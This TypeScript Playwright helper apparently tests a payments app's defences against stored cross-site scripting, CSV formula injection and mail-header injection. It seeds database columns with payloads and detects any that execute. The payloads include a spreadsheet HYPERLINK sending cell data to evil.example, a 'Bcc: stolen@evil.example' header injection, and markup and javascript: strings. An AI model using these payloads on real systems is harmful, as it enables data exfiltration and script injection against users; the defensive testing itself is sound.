// Cross-site scripting and formula payloads: the texts, the columns that store them, and the checks that find them executed.
import type { BrowserContext, Page } from "@playwright/test";

/** Breaks out of text, attributes, scripts and comments. Each part calls `ran` or marks its element when parsed as markup. */
export const MARKUP = [
  `"'><img src=x onerror=ran(1) data-injected>`,
  `<script data-injected>ran(2)</script>`,
  `</script></style></textarea></title><svg data-injected onload=ran(3)>`,
  `--><iframe data-injected srcdoc="<script>parent.ran(4)</script>"></iframe>`,
  `<a data-injected href="javascript:ran(5)" autofocus onfocus=ran(6)>x</a>`,
  `\${ran(7)}{{ran(8)}}<!--`,
].join("");
/** A part of the payload that a page contains when it shows the payload as text. */
export const SHOWN = "onerror=ran(1)";
/** Starts like a formula, reverses the text direction, and breaks lines to inject mail headers. */
const scriptOf = (lead: string) =>
  `${lead}HYPERLINK("http://evil.example?x="&A1)\u202E${MARKUP}\r\nBcc: stolen@evil.example\r\n\r\n@SUM(1)`;
/** A customer's ID: as long as the address of the customer's page can be (key of 260 characters). */
const idOf = (lead: string) => scriptOf(lead).slice(0, 250);
/** The key of every customer after `insertPayloads`. */
export const CUSTOMER_KEY = `id:${idOf("=")}`;
/** An address that must never become a link. */
const ADDRESS = `javascript:ran(9)//${MARKUP}`;

/**
 * Columns with texts of people, shops, banks and receivers. The payloads are written past every input rule, because a row
 * of an earlier version may have passed one.
 */
const TEXTS: Record<string, string[]> = {
  account_consents: ["reason"],
  statement_fetches: ["problem"],
  api_calls: ["path", "request", "answer", "user_agent", "idempotency_key"],
  attempt_payers: ["account_masked"],
  attempt_transitions: ["raw_status"],
  bank_calls: ["code"],
  banks: ["name", "display_name"],
  credentials: ["name"],
  mails: ["subject", "text", "error"],
  managed_accounts: ["bank_name", "holder_name"],
  merchants: ["brand_name", "suspended_reason", "tax_number", "postal_address"],
  notes: ["text"],
  partners: ["name"],
  payment_attempts: ["bank_payment_id", "psu_message", "raw_status", "reason"],
  payment_link_mails: ["recipient_masked"],
  payment_links: ["payment_reference", "order_id"],
  payment_requests: ["payment_reference", "order_id", "status_reason", "bank_name"],
  passkeys: ["name"],
  statement_entries: ["remittance", "counterparty", "note", "return_reason", "end_to_end_id"],
  users: ["name"],
  user_sessions: ["user_agent"],
  webhook_deliveries: ["reason"],
  webhook_delivery_attempts: ["response_body", "error", "detail", "remote_address"],
};
const ADDRESSES: Record<string, string[]> = {
  payment_links: ["success_url", "failure_url"],
  payment_requests: ["success_url", "failure_url"],
  payment_attempts: ["sca_redirect_url"],
  webhook_delivery_attempts: ["url"],
};
const OBJECTS: Record<string, string[]> = {
  audit_entries: ["detail", "before", "after"],
  payment_links: ["metadata"],
  payment_requests: ["customer", "billing_address", "metadata"],
  webhook_delivery_attempts: ["response_headers", "request_headers"],
};

type Query = (sql: string) => Promise<unknown>;

/** Writes the payloads into all these columns, past every input rule and without the database's triggers. */
export async function insertPayloads(query: Query, lead = "="): Promise<void> {
  const literal = (text: string) => `convert_from(decode('${Buffer.from(text).toString("hex")}', 'hex'), 'UTF8')`;
  const script = literal(scriptOf(lead));
  const object = `jsonb_build_object('id', ${literal(idOf(lead))}, 'name', ${script}, ${literal(MARKUP)}, ${script})`;
  const updates = ([fields, value]: readonly [Record<string, string[]>, string]) =>
    Object.entries(fields).map(
      ([table, columns]) => `UPDATE ${table} SET ${columns.map((column) => `${column} = ${value}`).join(", ")};`,
    );
  const all = [[TEXTS, script] as const, [ADDRESSES, literal(ADDRESS)] as const, [OBJECTS, object] as const];
  const parts = [
    `UPDATE webhook_events SET body = jsonb_build_object('id', id, 'type', type, 'data', ${object})::text;`,
    `UPDATE bank_profiles SET profile = profile || jsonb_build_object('clientId', ${script});`,
  ];
  await query(
    `BEGIN; SET LOCAL session_replication_role = replica; ${[...all.flatMap(updates), ...parts].join(" ")} COMMIT;`,
  );
}

/** Records every payload that ran or that the content policy stopped, on any page of the context. */
export async function watchScripts(context: BrowserContext): Promise<string[]> {
  const found: string[] = [];
  await context.exposeBinding("ran", ({ page }, which: number) => found.push(`ran ${which} on ${page.url()}`));
  await context.exposeBinding("refused", ({ page }, what: string) => found.push(`refused ${what} on ${page.url()}`));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, sample, blockedURI }) =>
      (window as unknown as { refused: (what: string) => void }).refused(
        `${violatedDirective} ${blockedURI} ${sample}`.trim(),
      ),
    );
  });
  context.on("dialog", (dialog) => {
    found.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  return found;
}

/** Runs in every frame: elements that a payload became, and `javascript:` addresses. */
function findInjectedInFrame(): string[] {
  const runs = /^\s*javascript:/i;
  const attributes = ["href", "src", "action", "formaction", "srcdoc"];
  const all = [...document.querySelectorAll("*")];
  return all.flatMap((element) => [
    ...(element.hasAttribute("data-injected") ? [`markup <${element.localName}>`] : []),
    ...attributes.flatMap((name) => (runs.test(element.getAttribute(name) ?? "") ? [`${name} runs`] : [])),
  ]);
}

/** The payloads that a page's frames contain as markup or as a `javascript:` address. */
export async function findInjected(page: Page): Promise<string[]> {
  const ofFrames = await Promise.all(page.frames().map((frame) => frame.evaluate(findInjectedInFrame).catch(() => [])));
  return ofFrames.flat().map((what) => `${what} on ${page.url()}`);
}

/** The cells of a CSV file (RFC 4180). */
export function cellsOf(csv: string): string[] {
  const cells = [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r?\n|\r|$)/g)].map(([, cell = ""]) => cell);
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}

/** The cells that a spreadsheet would run as formulas; negative numbers are none. */
export function formulasIn(csv: string): string[] {
  return cellsOf(csv.replace(/^\uFEFF/, "")).filter(
    (cell) => /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell),
  );
}
